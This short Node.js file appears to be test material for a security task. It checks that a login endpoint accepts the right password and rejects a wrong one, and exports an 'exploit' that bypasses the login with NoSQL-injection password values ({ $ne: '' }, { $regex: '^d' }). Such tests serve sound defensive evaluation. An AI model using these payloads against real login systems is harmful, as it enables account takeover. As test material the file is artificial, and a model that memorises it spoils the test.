const assert = require('node:assert/strict');

const login = async (app, password) =>
  (await app.call('POST', '/login', { body: { user: 'ann', password } })).body.in;
exports.behaviour = async (app) => {
  assert.equal(await login(app, 'decoy-word'), true);
  assert.equal(await login(app, 'wrong'), false);
};
exports.exploit = async (app) => (await login(app, { $ne: '' })) || login(app, { $regex: '^d' });
